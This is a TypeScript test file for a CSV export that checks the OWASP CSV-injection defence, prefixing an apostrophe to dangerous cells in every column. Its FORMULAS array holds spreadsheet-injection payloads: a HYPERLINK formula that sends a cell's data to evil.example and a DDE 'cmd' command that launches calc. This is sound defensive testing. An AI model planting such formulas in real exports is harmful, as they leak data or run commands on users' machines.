import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { CSV_COLUMNS, renderEntriesCsv } from '../../src/exports/csv.js';
import { csvCell } from '../../src/exports/csv-cell.js';
import { entry } from './fake-lucca.js';

/** The cells of the first data row of `csv` (`;`-separated, RFC 4180 quoting). */
function firstRow(csv: string): string[] {
  const line = csv.split('\r\n')[1]!;
  const cells: string[] = [];
  let cell = '';
  let quoted = false;
  for (let i = 0; i < line.length; i++) {
    const c = line[i]!;
    if (quoted && c === '"' && line[i + 1] === '"') {
      cell += '"';
      i++;
    } else if (c === '"') quoted = !quoted;
    else if (c === ';' && !quoted) {
      cells.push(cell);
      cell = '';
    } else cell += c;
  }
  cells.push(cell);
  return cells;
}

// The probe's payloads (issue #16, point 7), in the columns that went through raw.
const FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1,"x")', "=1+cmd|' /C calc'!A0", '@SUM(1+1)'];

describe('csvCell (OWASP CSV injection rule)', () => {
  it('prefixes an apostrophe to a cell starting with =, +, -, @, tab or carriage return', () => {
    for (const start of ['=', '+', '-', '@', '\t', '\r']) {
      assert.equal(csvCell(`${start}1+1`), `'${start}1+1`, JSON.stringify(start));
    }
  });

  it('leaves other text, and plain signed numbers (which no spreadsheet runs), as they are', () => {
    for (const value of ['Müller', "O'Brien", '1.07:30:00', 'a=b', '-7,5', '-7.5', '+3', '42', ''])
      assert.equal(csvCell(value), value);
  });

  it('protects a number-like prefix followed by anything else', () => {
    assert.equal(csvCell('-1+cmd'), "'-1+cmd");
    assert.equal(csvCell('+33 6 12 34 56 78'), "'+33 6 12 34 56 78");
  });
});

describe('renderEntriesCsv: every cell is spreadsheet-safe, whatever its column', () => {
  for (const payload of FORMULAS) {
    it(`protects ${payload} in owner.id, the raw amount and endsAt as in the names`, () => {
      const row = firstRow(
        renderEntriesCsv([
          entry({
            owner: { id: payload, lastName: payload, firstName: payload },
            rawAmount: payload,
            amount: null,
            amountUnit: payload,
            endsAt: payload,
            externalCode: payload,
            timeType: { id: 1, name: payload, payTreatment: payload },
            axisSections: [{ id: 1, name: payload, code: null }],
          }),
        ]),
      );
      assert.equal(row.length, CSV_COLUMNS.length);
      for (const [index, cell] of row.entries()) {
        if (CSV_COLUMNS[index] === 'Amount') continue; // null here: empty
        // A raw amount with a colon reads as a timespan, whose unit is shown as `hours` (issue #12).
        if (CSV_COLUMNS[index] === 'Unit') continue;
        assert.equal(cell, `'${payload}`, `column ${CSV_COLUMNS[index]}`);
      }
    });

    it(`protects ${payload} in a unit shown as Lucca sent it`, () => {
      const row = firstRow(renderEntriesCsv([entry({ amount: 7.5, rawAmount: '7.5', amountUnit: payload })]));
      assert.equal(row[CSV_COLUMNS.indexOf('Unit')], `'${payload}`);
    });
  }

  it('keeps a negative amount a number', () => {
    const row = firstRow(renderEntriesCsv([entry({ amount: -7.5, rawAmount: '-7.5' })]));
    assert.equal(row[CSV_COLUMNS.indexOf('Amount')], '-7,5');
    assert.equal(row[CSV_COLUMNS.indexOf('Raw amount')], '-7.5');
  });
});
